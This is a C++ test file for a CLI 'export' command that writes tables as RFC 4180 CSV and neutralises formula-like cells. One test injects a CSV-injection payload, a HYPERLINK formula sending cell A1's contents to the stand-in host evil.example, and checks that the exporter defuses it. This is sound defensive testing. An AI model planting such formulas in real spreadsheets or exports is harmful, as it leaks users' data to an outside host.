// `scorecard export` (issue 9): a table as RFC 4180 CSV with a header, money in minor units under
// the file's own column names, and formula-like text cells neutralised against CSV injection.
#include <algorithm>

#include "cli/cli_temp_dir.h"
#include "import/csv_parser.h"
#include "import/csv_writer.h"

using sc::test::quotedSample;

using sc::test::runCli;
using sc::test::TempDir;

namespace {}  // namespace

TEST(cli_export_test, deals_of_the_sample_with_a_header_and_minor_units) {
    TempDir dir;
    const auto run = runCli("export " + quotedSample() + " --table deals -o '" + dir.file("deals.csv") + "'");
    ASSERT_EQ(run.exitCode, 0);
    const std::string csvText = sc::test::readText(dir.file("deals.csv"));
    const auto table = sc::csv::parse(csvText, ',');
    ASSERT_TRUE(table.ok) << table.error.message;
    ASSERT_GT(table.records.size(), 10u);
    const auto& header = table.records[0].fields;
    EXPECT_EQ(header[0], "id");
    EXPECT_NE(std::find(header.begin(), header.end(), "list_price_minor"), header.end());
    EXPECT_NE(csvText.find("\r\n"), std::string::npos);  // RFC 4180 line ends
    // Every row has the header's width.
    for (const auto& r : table.records) EXPECT_EQ(r.fields.size(), header.size()) << "line " << r.line;
    EXPECT_EQ(runCli("export " + quotedSample() + " --table deals").out,
              csvText);  // stdout gives the same bytes
}

// OWASP CSV injection: "=HYPERLINK(...)" in a partner's account name must come back as text.
TEST(cli_export_test, a_hostile_cell_comes_back_unexecuted) {
    TempDir dir;
    const std::string doc =
        sc::test::readText(sc::test::sourcePath("assets/samples/partner-program.scorecard.json"));
    sc::Json tree = sc::Json::parse(doc);
    auto& deals = tree["deals"];
    const auto columns = deals["columns"].get<std::vector<std::string>>();
    const std::size_t account = std::find(columns.begin(), columns.end(), "account") - columns.begin();
    ASSERT_LT(account, columns.size());
    deals["rows"][0][account] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    deals["rows"][1][account] = "-2+3";
    deals["rows"][2][account] = "@SUM(A1:A9)";
    const std::string path = dir.write("hostile.scorecard.json", tree.dump(2));
    const auto run = runCli("export '" + path + "' --table deals");
    ASSERT_EQ(run.exitCode, 0);
    const auto table = sc::csv::parse(run.out, ',');
    ASSERT_TRUE(table.ok);
    EXPECT_EQ(table.records[1].fields[account], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    EXPECT_EQ(table.records[2].fields[account], "'-2+3");
    EXPECT_EQ(table.records[3].fields[account], "'@SUM(A1:A9)");
}

TEST(cli_export_test, numbers_are_not_neutralised_and_quoting_follows_rfc_4180) {
    EXPECT_EQ(sc::csv::field("-500", false), "-500");
    EXPECT_EQ(sc::csv::field("-500"), "'-500");
    EXPECT_EQ(sc::csv::field("a,b"), "\"a,b\"");
    EXPECT_EQ(sc::csv::field("say \"hi\""), "\"say \"\"hi\"\"\"");
    EXPECT_EQ(sc::csv::field("two\nlines"), "\"two\nlines\"");
    EXPECT_EQ(sc::csv::field("\tcmd"), "'\tcmd");
    EXPECT_EQ(sc::csv::record({"a", "1"}, {true, false}), "a,1\r\n");
}

TEST(cli_export_test, refusals) {
    EXPECT_EQ(runCli("export " + quotedSample() + " --table partners").exitCode, 2);
    EXPECT_EQ(runCli("export " + quotedSample()).exitCode, 2);
    EXPECT_EQ(runCli("export --table deals").exitCode, 2);
}
